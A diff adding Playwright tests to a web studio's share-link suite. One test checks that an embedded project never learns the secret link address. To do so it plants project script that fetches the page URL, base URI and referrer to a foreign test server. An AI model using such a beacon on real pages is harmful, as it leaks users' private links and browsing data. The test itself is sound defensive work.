@@ -1,6 +1,7 @@
 import { linkRoutes } from '@studio/contract/links';
 import { register, storeProject } from '../../fixtures/accounts.ts';
 import { followsLink, revokedWithin } from '../../fixtures/links.ts';
+import { inspectEveryLook } from '../../fixtures/looks.ts';
 import { expect, test } from '../../fixtures/test.ts';
 import { callApi } from '../../stack/api.ts';
 import { serveForeignSite } from '../../stack/network/foreign-site.ts';
@@ -131,4 +132,68 @@ test('H85 what a link has opened leaves the page and the embeds when the link ex
   ]);
   await expect(friend.locator('iframe')).toHaveCount(0);
   await site.close();
+});
+
+test('H85 code in an embed by link is told no address that opens the project, and comes back when it is loaded again', async ({
+  studio,
+  account,
+  visit,
+}) => {
+  const told = await serveForeignSite('');
+  const { id } = await storeProject(studio, account, {
+    html: '<meta name="referrer" content="unsafe-url"><h1>for friends</h1><button onclick="location.reload()">Again</button>',
+    js: `const { href } = location;
+      fetch('${told.url}?' + encodeURIComponent([href, document.URL, document.baseURI, document.referrer]), { mode: 'no-cors' });
+      document.querySelector('h1').id = 'at' + performance.timeOrigin;`,
+  });
+  const { secret } = await callApi(studio.url, linkRoutes.createLink, {
+    token: account.token,
+    params: { id },
+    body: { name: 'Friends' },
+  });
+  const embed = `${studio.url}/s/${secret}/embed`;
+  const site = await serveForeignSite(
+    `<iframe id="plain" src="${embed}"></iframe><iframe id="strict" sandbox="allow-scripts" src="${embed}"></iframe>`,
+  );
+  const blog = await visit('about:blank');
+  const sent: string[] = [];
+  blog.on('request', (request) => {
+    if (request.url().startsWith(told.url)) sent.push(`${request.url()} ${request.headers()['referer']}`);
+  });
+  await blog.goto(site.url);
+  await expect.poll(() => sent.length).toBe(2);
+  const project = blog.frameLocator('#plain').frameLocator('iframe');
+  const before = await project.getByRole('heading').getAttribute('id');
+  await project.getByRole('button', { name: 'Again' }).click();
+  await expect(project.getByRole('heading')).not.toHaveId(before ?? '');
+  await expect.poll(() => sent.length).toBe(3);
+  for (const request of sent) {
+    expect(request).not.toContain(secret);
+    expect(decodeURIComponent(request)).not.toContain('link=');
+  }
+  await Promise.all([site.close(), told.close()]);
+});
+
+test('the dialog of links stands in every look, whatever the names are', async ({
+  studio,
+  account,
+  open,
+}) => {
+  const { id } = await storeProject(studio, account, draft);
+  for (const name of ['Friends', 'W'.repeat(60), '\u0645\u0631\u062d\u0628\u0627'])
+    await callApi(studio.url, linkRoutes.createLink, {
+      token: account.token,
+      params: { id },
+      body: { name },
+    });
+  const studioPage = await open(account, `/project/${id}`);
+  await studioPage.loaded();
+  const { page } = studioPage;
+  await page.getByRole('button', { name: 'By link', exact: true }).click();
+  await page.getByRole('menuitem', { name: 'By link' }).click();
+  const dialog = page.getByRole('dialog', { name: 'Links' });
+  for (const row of await dialog.getByRole('listitem').all())
+    await expect(row.getByRole('button', { name: 'Revoke' })).toBeInViewport({ ratio: 1 });
+  await expect(dialog.getByRole('button', { name: 'Create link' })).toBeInViewport({ ratio: 1 });
+  await inspectEveryLook(page, 'links', '[role=dialog]');
 });
